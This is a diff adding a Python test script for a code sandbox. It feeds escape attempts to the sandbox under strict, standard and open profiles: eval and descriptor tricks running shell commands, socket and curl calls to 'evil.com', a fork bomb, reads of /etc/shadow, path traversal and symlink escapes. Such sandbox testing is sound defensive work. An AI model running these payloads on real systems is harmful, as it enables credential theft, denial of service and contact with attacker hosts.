@@ -1,0 +1,105 @@
+"""The seed's own tests and its threat actors' examples, in every profile: what ends them, and what is seen.
+
+Usage: python_seed.py BUILD. One row a case: source, and for each profile how it must end: the statuses that
+are right, the layer (None: the program ran to its own end), and rules of which one must be listed."""
+import re
+import sys
+
+import tapsys
+
+BUILD = sys.argv[1]
+tapsys.under_plant(BUILD)
+tapsys.enter_empty_network()
+tap = tapsys.Tap()
+programs = tapsys.Programs(BUILD)
+
+ENDED = "ok|error"
+NO_PROCESS = (ENDED, None, r"seccomp\.(clone|fork|vfork|execve)|py\.event\.(os\.(system|fork|posix_spawn)|subprocess)")
+NO_NETWORK = (ENDED, None, r"seccomp\.(socket|connect)|py\.event\.socket")
+NO_FILE = (ENDED, None, r"py\.event\.open|py\.event\.os\.symlink")
+
+CASES = [
+    ("1 eval", "eval('__import__(\"os\").system(\"whoami\")')",
+     {"strict": ("blocked", "input", r"py\.call\.eval"), "standard": NO_PROCESS, "open": NO_PROCESS}, ""),
+    ("2 compile", "compiled = compile('print(\"pwned\")', '<string>', 'exec')\nexec(compiled)\n",
+     {"strict": ("blocked", "input", r"py\.call\.(compile|exec)"), "standard": ("ok", None, ""), "open": ("ok", None, "")}, ""),
+    ("3 type", "Exploit = type('Exploit', (object,), {\n    '__init__': lambda self: __import__('os').system('whoami')\n})\nExploit()\n",
+     {"strict": ("blocked", "input", r"py\.call\.type"), "standard": NO_PROCESS, "open": NO_PROCESS}, ""),
+    ("4 import os", "import os; os.system('whoami')",
+     {"strict": ("blocked", "input", r"py\.module\.os"), "standard": NO_PROCESS, "open": NO_PROCESS}, ""),
+    ("5 __import__", "__import__('socket').socket().connect(('evil.com', 80))",
+     {"strict": ("blocked", "input", r"py\.call\.__import__"), "standard": NO_NETWORK, "open": NO_NETWORK}, ""),
+    ("6 importlib", "import importlib\nos = importlib.import_module('os')\nos.system('whoami')\n",
+     {"strict": ("blocked", "input", r"py\.module\.importlib"), "standard": NO_PROCESS, "open": NO_PROCESS}, ""),
+    ("7 endless loop", "print('before', end='')\nwhile True: pass",
+     dict.fromkeys(("strict", "standard", "open"), ("timeout", "resources", "")), "before"),
+    ("8 memory", "print('before')\ndata = [0] * (10**9)",
+     dict.fromkeys(("strict", "standard", "open"), ("memory", "resources", "")), "before"),
+    ("9 fork bomb", "import os\nwhile True:\n    os.fork()\n",
+     {"strict": ("blocked", "input", r"py\.module\.os"), "standard": ("error", None, r"seccomp\.clone|py\.event\.os\.fork"),
+      "open": ("error", None, r"seccomp\.clone")}, ""),
+    ("10 socket", "import socket\ns = socket.socket()\ns.connect(('8.8.8.8', 53))\n",
+     {"strict": ("blocked", "input", r"py\.module\.socket"), "standard": ("error", None, NO_NETWORK[2]),
+      "open": ("error", None, r"seccomp\.(socket|connect)")}, ""),
+    ("11 http", "import urllib.request\nurllib.request.urlopen('http://example.com')\n",
+     {"strict": ("blocked", "input", r"py\.(import|module|form)\."), "standard": ("error", None, NO_NETWORK[2]),
+      "open": ("error", None, r"seccomp\.(socket|connect)")}, ""),
+    ("12 /etc/passwd", "print('secret' if 'root:' in open('/etc/passwd').read() else 'nothing of the host')",
+     {"strict": ("blocked", "input", r"py\.call\.open"), "standard": ("ok", None, ""), "open": ("ok", None, "")}, ""),
+    ("13 write to /etc", "open('/tmp/../etc/shadow', 'w').write('pwned')",
+     {"strict": ("blocked", "input", r"py\.call\.open"), "standard": ("error", None, ""), "open": ("error", None, "")}, ""),
+    ("14 symlink", "import os\nos.symlink('/etc/shadow', '/tmp/escape')\nopen('/tmp/escape').read()\n",
+     {"strict": ("blocked", "input", r"py\.module\.os"), "standard": ("error", None, ""), "open": ("error", None, "")}, ""),
+    ("15 descriptor", "class Pwn:\n    def __get__(self, obj, type=None):\n        import os\n        os.system('whoami')\n\n"
+     "class Victim:\n    attr = Pwn()\n\nVictim().attr\n",
+     {"strict": ("blocked", "input", r"py\.method\.__get__"), "standard": NO_PROCESS, "open": NO_PROCESS}, ""),
+    ("16 markup", "print('<script>alert(1)</script>')",
+     {"strict": ("ok", None, ""), "standard": ("ok", None, ""), "open": ("ok", None, "")}, ""),
+    ("17 binary", "import sys; sys.stdout.buffer.write(b'\\xff\\xfe\\x00\\x01')",
+     {"strict": ("blocked", "input", r"py\.module\.sys"), "standard": ("ok", None, ""), "open": ("ok", None, "")}, ""),
+    ("test_network_blocked", "import socket\ntry:\n    s = socket.socket()\n    s.connect(('8.8.8.8', 53))\n"
+     "    print('FAIL: Network accessible')\nexcept Exception as e:\n    print(f'PASS: Network blocked ({e})')\n",
+     {"strict": ("blocked", "input", r"py\.module\.socket"), "standard": ("ok", None, NO_NETWORK[2]),
+      "open": ("ok", None, r"seccomp\.(socket|connect)")}, "PASS: Network blocked"),
+    ("curious agent", "import os\nprint(os.environ)\nopen('/etc/shadow').read()\n",
+     {"strict": ("blocked", "input", r"py\.module\.os"), "standard": ("error", None, ""), "open": ("error", None, "")}, ""),
+    ("buggy agent: loop", "while True:\n    x = sum(range(10000))\n",
+     dict.fromkeys(("strict", "standard", "open"), ("timeout", "resources", "")), ""),
+    ("moderate attacker: type", "type('x', (object,), {'__init__': lambda self: os.system('whoami')})()",
+     {"strict": ("blocked", "input", r"py\.call\.type"), "standard": ("error", None, ""), "open": ("error", None, "")}, ""),
+    ("moderate attacker: descriptor", "class Exploit:\n    def __get__(self, obj, type=None):\n        import subprocess\n"
+     "        subprocess.call(['curl', 'evil.com'])\nclass V:\n    a = Exploit()\nV().a\n",
+     {"strict": ("blocked", "input", r"py\.method\.__get__"), "standard": NO_PROCESS, "open": NO_PROCESS}, ""),
+]
+
+TEXTS = {"1 eval": "Blocked function: eval", "4 import os": "Blocked import: os", "15 descriptor": "Blocked descriptor method: __get__"}
+
+for who in tapsys.users():
+    canaries = tapsys.Canaries(programs, who)
+    for name, source, expected, printed in CASES:
+        for profile in ("strict", "standard", "open"):
+            statuses, layer, rules = expected[profile]
+            options = ["--timeout", "1s"] if "timeout" in statuses else []
+            r = tapsys.cordon(programs, ["run", "--json", "--profile", profile, *options, "-"], who,
+                              env=canaries.environment(), text=source)
+            what = f"{who}: {profile}: {name}"
+            good = r.json is not None and r["status"] in statuses.split("|") and r["layer"] == layer
+            tap.ok(good, f"{what} ends as {statuses}", r.story())
+            tap.eq(tapsys.shape_faults(r.json), [], f"{what}: the result has its shape")
+            if rules:
+                tap.ok(any(re.match(rules, rule) for rule in r.rules()), f"{what}: seen as {rules}", r.story())
+            if printed and r["status"] != "blocked":
+                tap.ok(printed in (r["stdout"] or ""), f"{what}: what was printed is there", r.story())
+            if name in TEXTS and profile == "strict":
+                tap.ok(any(v["detail"] == TEXTS[name] and v["line"] for v in r["violations"]), f"{what}: in the seed's words", r.story())
+            if name == "16 markup":
+                want = "&lt;script&gt;" if profile == "strict" else "<script>"
+                tap.ok(want in (r["stdout"] or "") and (profile != "strict" or "<script>" not in r["stdout"]), f"{what}: escaped as the profile says", r.story())
+            if name == "17 binary" and profile != "strict":
+                tap.ok("Binary output detected" in (r["stdout"] or ""), f"{what}: said, not shown", r.story())
+            if name == "12 /etc/passwd" and profile != "strict":
+                tap.ok("nothing of the host" in (r["stdout"] or ""), f"{what}: the jail's own", r.story())
+            tap.ok(canaries.word not in r.out + r.err, f"{what}: no canary in it")
+    tap.eq(canaries.faults(), [], f"{who}: every canary is as it was")
+    canaries.close()
+tap.done()
